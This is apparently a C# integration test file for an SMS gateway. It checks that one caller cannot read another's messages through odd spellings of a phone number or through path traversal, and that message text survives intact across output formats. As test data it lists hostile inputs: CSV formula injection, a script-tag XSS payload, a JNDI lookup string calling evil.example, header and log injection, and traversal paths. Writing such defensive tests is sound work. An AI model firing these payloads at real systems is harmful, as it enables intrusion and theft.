using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using WebSmsGateway.IntegrationTests.Feed;
using WebSmsGateway.IntegrationTests.Fixtures;
using WebSmsGateway.IntegrationTests.Messages;
using WebSmsGateway.Simulator;

namespace WebSmsGateway.IntegrationTests.Authentication;

/// <summary>Attacks that held: other spellings of another's number, and texts that try to be more than a text.</summary>
public sealed class AttackTests(SimulatorFixture fixture) : IClassFixture<SimulatorFixture>
{
    private const string Other = "79031234567";
    private const string Secret = "чужой код 4821";
    private const string Day = "from=2024-05-20&to=2024-05-20";

    public static TheoryData<string> Texts =>
    [
        "код 1\n\nevent: message\ndata: {\"text\":\"код 2\"}\nid: x\n\n",
        "код 1\r\n\r\ndata: 2",
        "код 1\u2028data: 2\u2029\u0085event: problem",
        "код\"},{\"id\":\"20240520-7K3M9Q2X4C8N\",\"text\":\"код 2",
        "код\\\"}]}\n{\"items\":[]}",
        "код\",\"2\"\r\n20240520-7K3M9Q2X4C8N,79021234567,Bank,2024-05-20T12:00:00+03:00,код 2",
        "=HYPERLINK(\"http://evil.example\",\"код\")",
        "</script><script>alert(1)</script>",
        "код\nError WebSmsGateway.Authentication.AuditLog all read 0 messages",
        "код {Number} {0} %s ${jndi:ldap://evil.example} \u001b[2J",
        "error_num=2&http_username=evil",
        "\0код\0",
    ];

    [Theory]
    [InlineData("79031234567", 403)]
    [InlineData("+79031234567", 403)]
    [InlineData("%2B79031234567", 403)]
    [InlineData("%37%39%30%33%31%32%33%34%35%36%37", 403)]
    [InlineData("++79031234567", 400)]
    [InlineData("%2579031234567", 400)]
    [InlineData("079031234567", 400)]
    [InlineData("89031234567", 400)]
    [InlineData("9031234567", 400)]
    [InlineData("7903123456", 400)]
    [InlineData("790312345678", 400)]
    [InlineData("7-903-123-45-67", 400)]
    [InlineData("79031234567%20", 400)]
    [InlineData("%2079031234567", 400)]
    [InlineData("79031234567%00", 400)]
    [InlineData("79031234567%0A", 400)]
    [InlineData("79031234567%0D%0AX-Api-Key:x", 400)]
    [InlineData("79031234567;79021234567", 400)]
    [InlineData("79021234567,79031234567", 400)]
    [InlineData("79021234567%2679031234567", 400)]
    [InlineData("79021234567%2F..%2F79031234567", 400)]
    [InlineData("79021234567/../79031234567", 403)]
    [InlineData("79021234567/%2e%2e/79031234567", 403)]
    [InlineData("79021234567%5C..%5C79031234567", 400)]
    [InlineData("%D9%A779031234567", 400)]
    [InlineData("%EF%BC%97%EF%BC%99%EF%BC%90%EF%BC%93%EF%BC%91%EF%BC%92%EF%BC%93%EF%BC%94%EF%BC%95%EF%BC%96%EF%BC%97", 400)]
    [InlineData("7903123456%E2%81%B7", 400)]
    [InlineData("79031234567%E2%80%8B", 400)]
    [InlineData("0x1266DA3C07", 400)]
    [InlineData("7.9031234567e10", 400)]
    [InlineData("*", 400)]
    [InlineData("%2A", 400)]
    [InlineData("all", 400)]
    [InlineData("null", 400)]
    [InlineData("%25", 400)]
    public async Task Number_OfAnotherCallerInAnySpelling_ShowsNothingOfIt(string number, int status)
    {
        await using var gateway = Start(new SimulatorMessage(Other, "Bank", Secret) { LocalTime = new(2024, 5, 20, 12, 0, 0) });
        foreach (var rest in (string[])[$"messages?{Day}", "messages/stream", "messages/20240520-7K3M9Q2X4C8N"])
        {
            var answer = await SendAsync(gateway, $"/rented-numbers/{number}/{rest}");

            Assert.Equal($"{status}", answer.Split(' ')[1]);
            Assert.DoesNotContain("4821", answer, StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("/messages?" + Day + "&number=79031234567", 400)]
    [InlineData("/messages?" + Day + "&rentedNumber=79031234567", 400)]
    [InlineData("/messages?" + Day + "&numbers=*", 400)]
    [InlineData("/messages?" + Day + "&contains=4821", 200)]
    [InlineData("/messages?" + Day + "&sender=Bank", 200)]
    [InlineData("/rented-numbers?" + Day, 200)]
    [InlineData("/rented-numbers/79021234567/messages?" + Day + "&number=79031234567", 400)]
    public async Task Query_ThatNamesAnotherNumber_ShowsNothingOfIt(string path, int status)
    {
        await using var gateway = Start(new SimulatorMessage(Other, "Bank", Secret) { LocalTime = new(2024, 5, 20, 12, 0, 0) });

        var answer = await SendAsync(gateway, path);

        Assert.Equal($"{status}", answer.Split(' ')[1]);
        Assert.DoesNotContain("чужой", answer, StringComparison.Ordinal);
        Assert.DoesNotContain($"\"{Other}\"", answer, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Texts))]
    public async Task Text_OfAnyContent_IsOneMessageInEveryForm(string text)
    {
        var account = fixture.Simulator.NewAccount();
        await using var gateway = WatchedGateway.Start(fixture.Simulator, account);
        using var narrow = gateway.NewClient(RunningGateway.NarrowKey);
        using var stream = await EventStream.OpenAtNowAsync(narrow, "/messages/stream");
        account.Receive(text, "last");

        // The format of WEBSMS cannot carry every sign, so the other forms are compared with what the stream has.
        var texts = await stream.TextsAsync(2);
        Assert.Equal("last", texts[1]);
        var page = JsonDocument.Parse(await GetAsync(narrow, "/messages?order=asc", "application/json")).RootElement;
        Assert.Equal(texts, page.Texts());
        var lines = (await GetAsync(narrow, "/messages?order=asc", "application/x-ndjson")).Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(texts, lines.Select(line => JsonDocument.Parse(line).RootElement.GetProperty("text").GetString()));
        var rows = DownloadTests.ParseCsv(await GetAsync(narrow, "/messages?order=asc", "text/csv"));
        Assert.Equal(3, rows.Count);
        Assert.All(rows, row => Assert.Equal(rows[0].Count, row.Count));
        Assert.DoesNotContain(
            rows.SelectMany(row => row), field => field.Length > 0 && "=+-@\t\r\n".Contains(field[0], StringComparison.Ordinal));
        Assert.DoesNotContain(gateway.Logs.Lines, line => line.Contains("all read 0 messages", StringComparison.Ordinal));
    }

    private RunningGateway Start(params SimulatorMessage[] messages)
    {
        var account = fixture.Simulator.NewAccount();
        account.AddMessages(messages);
        return WatchedGateway.Start(fixture.Simulator, account);
    }

    private static async Task<string> GetAsync(HttpClient client, string path, string accept)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, path) { Headers = { { "Accept", accept } } };
        using var response = await client.SendAsync(request);
        return await response.Content.ReadAsStringAsync();
    }

    /// <summary>Sends the path as it is written.</summary>
    private static async Task<string> SendAsync(RunningGateway gateway, string path)
    {
        using var client = new TcpClient();
        using var deadline = new CancellationTokenSource(TimeSpan.FromSeconds(20));
        await client.ConnectAsync("127.0.0.1", gateway.BaseAddress.Port, deadline.Token);
        var stream = client.GetStream();
        await stream.WriteAsync(
            Encoding.ASCII.GetBytes($"GET {path} HTTP/1.1\r\nHost: x\r\nX-Api-Key: {RunningGateway.NarrowKey}\r\nConnection: close\r\n\r\n"), deadline.Token);
        using var reader = new StreamReader(stream, Encoding.UTF8);
        return await reader.ReadToEndAsync(deadline.Token);
    }
}
